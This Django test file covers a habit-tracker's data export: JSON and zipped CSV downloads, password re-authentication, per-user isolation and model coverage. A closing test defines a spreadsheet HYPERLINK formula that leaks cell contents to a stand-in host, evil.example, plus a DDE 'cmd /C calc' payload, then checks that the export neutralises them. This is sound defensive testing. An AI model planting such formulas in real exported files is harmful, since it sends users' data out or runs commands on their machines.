import csv
import io
import json
import zipfile

import pytest
from django.apps import apps
from django.conf import settings
from django.urls import reverse

from tests.tracker.factories import history, promise
from tracker.data import export
from tracker.models import Commitment, CommitmentReminder, DataSettings, Person

URL = reverse("data-export")


def post(client, password, fmt="json"):
    return client.post(URL, {"password": password, "format": fmt})


def test_it_downloads_everything_as_json(fresh_owner_client, owner, password):
    history(owner, commitments=4, days=3)
    CommitmentReminder.objects.create(
        commitment=Commitment.objects.filter(kind="promise").first(), enabled=True
    )
    response = post(fresh_owner_client, password)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/json"
    assert response["Content-Disposition"].startswith('attachment; filename="steady-export-')
    assert "no-store" in response["Cache-Control"]
    document = json.loads(response.content)
    assert document["format"] == "steady-export"
    assert document["version"] == 1
    assert document["profile"]["email"] == "owner@example.com"
    assert len(document["data"]["people"]) == 1
    assert len(document["data"]["commitments"]) == 4
    assert len(document["data"]["checkins"]) == 2 * 3
    assert len(document["data"]["pauses"]) == 1
    assert len(document["data"]["reminders"]) == 1
    assert document["data"]["settings"][0]["digest_time"] == "07:30:00"


def test_it_includes_notes_but_never_the_feed_token(fresh_owner_client, owner, password):
    history(owner, commitments=2, days=1)
    body = post(fresh_owner_client, password).content.decode()
    assert "Likes mornings" in body
    assert owner.data_settings.feed_token not in body


def test_it_downloads_a_zip_of_csv_files_with_headers(fresh_owner_client, owner, password):
    history(owner, commitments=2, days=2)
    response = post(fresh_owner_client, password, "zip")
    assert response["Content-Type"] == "application/zip"
    assert response["Content-Disposition"].endswith('.zip"')
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    names = set(archive.namelist())
    assert names == {"profile.csv", *(f"{kind.name}.csv" for kind in export.REGISTRY)}
    rows = list(csv.DictReader(io.StringIO(archive.read("commitments.csv").decode())))
    assert [row["title"] for row in rows] == ["Promise 0", "Routine 1"]
    assert rows[0]["person"] == ""
    header = archive.read("checkins.csv").decode().splitlines()[0]
    assert header.startswith("id,occurrence_date,due_at,state")


def test_it_asks_for_the_password_again_then_downloads(owner_client, owner, password):
    response = post(owner_client, password)
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("account_reauthenticate"))
    page = owner_client.get(response["Location"])
    assert "Confirm it's you" in page.content.decode()
    # The right password resumes the export the person asked for.
    download = owner_client.post(
        response["Location"], {"password": password, "next": reverse("data-export")}
    )
    assert download.status_code == 200
    assert download["Content-Type"] == "application/json"


def test_a_wrong_password_exports_nothing(owner_client, owner, password):
    asked = post(owner_client, password)["Location"]
    response = owner_client.post(asked, {"password": "not my password"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/html")
    assert "steady-export" not in response.get("Content-Disposition", "")
    assert "That password doesn&#x27;t match your account." in response.content.decode()


def test_it_only_exports_the_users_own_rows(fresh_owner_client, owner, other_user, password):
    promise(other_user, title="Other's secret")
    Person.objects.create(owner=other_user, name="Someone else")
    body = post(fresh_owner_client, password).content.decode()
    assert "Other's secret" not in body
    assert "Someone else" not in body


def test_anonymous_users_are_sent_to_sign_in(client, password):
    response = post(client, password)
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("account_login"))


def test_get_is_not_allowed(owner_client):
    assert owner_client.get(URL).status_code == 405


@pytest.mark.parametrize("size", [2, 20])
def test_the_export_takes_the_same_number_of_queries_at_any_size(
    size, owner, django_assert_num_queries
):
    history(owner, commitments=size, days=size)
    DataSettings.objects.for_user(owner)
    # The settings row (1); the profile is in memory; one query per kind.
    with django_assert_num_queries(1 + len(export.REGISTRY)):
        export.build_document(owner)


# The models of Django itself and of third-party apps, which hold no user content (allauth
# keeps sign-in records: the address is in the profile; passkeys cannot be moved anyway).
NOT_USER_CONTENT_APPS = {
    "admin",
    "auth",
    "contenttypes",
    "sessions",
    "simple_history",
    "account",
    "mfa",
}


def models_missing_from_the_export() -> list[str]:
    user_model = apps.get_model(settings.AUTH_USER_MODEL)
    registered = {kind.model for kind in export.REGISTRY} | set(export.NOT_EXPORTED)
    missing = []
    for model in apps.get_models():
        if model._meta.app_label in NOT_USER_CONTENT_APPS or model is user_model:
            continue
        if model.__name__.startswith("Historical"):
            continue  # django-simple-history's shadow tables mirror other models.
        points_at_user = any(
            field.is_relation
            and (field.many_to_one or field.one_to_one)
            and field.related_model is user_model
            for field in model._meta.get_fields()
            if field.concrete
        )
        if points_at_user and model not in registered:
            missing.append(model._meta.label)
    return missing


def test_every_model_with_a_key_to_the_user_is_exported_or_excused():
    """A future model with a foreign key to the user cannot be forgotten by the export."""
    missing = models_missing_from_the_export()
    assert missing == [], f"Add these models to tracker.data.export.REGISTRY: {missing}"


def test_the_check_notices_a_forgotten_model(monkeypatch):
    monkeypatch.setattr(export, "REGISTRY", [k for k in export.REGISTRY if k.model is not Person])
    assert models_missing_from_the_export() == ["tracker.Person"]


def test_every_kind_reaches_the_user():
    for kind in export.REGISTRY:
        assert kind.owner_path.endswith(("owner", "user"))


def test_the_csv_lists_feelings_as_plain_text(fresh_owner_client, owner, password):
    import csv as csv_module
    import io
    import zipfile
    from datetime import date

    from tracker.journal.models import Reflection

    Reflection.objects.create(
        owner=owner, date=date(2024, 2, 2), what_happened="Quiet", feelings=["hurt", "sad"]
    )
    response = fresh_owner_client.post(
        reverse("data-export"), {"password": password, "format": "zip"}
    )
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    rows = list(csv_module.DictReader(io.StringIO(archive.read("reflections.csv").decode())))
    assert rows[0]["feelings"] == "hurt; sad"


EVIL = '=HYPERLINK("http://evil.example/?q="&A1,"Click")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(
    fresh_owner_client, owner, password, start
):
    owner_client = fresh_owner_client  # allauth asks for the password again before export
    title = EVIL if start == "=" else f"{start}1+1"
    promise(owner, title=title)
    Person.objects.create(owner=owner, name="Sam", note=f"{start}cmd|' /C calc'!A0")
    archive = zipfile.ZipFile(io.BytesIO(post(owner_client, password, "zip").content))
    commitments = list(csv.DictReader(io.StringIO(archive.read("commitments.csv").decode())))
    assert commitments[0]["title"] == "'" + title
    people = list(csv.DictReader(io.StringIO(archive.read("people.csv").decode())))
    assert people[0]["note"].startswith("'" + start)
    # The JSON export keeps the text exactly as it was written.
    document = json.loads(post(owner_client, password).content)
    assert document["data"]["commitments"][0]["title"] == title
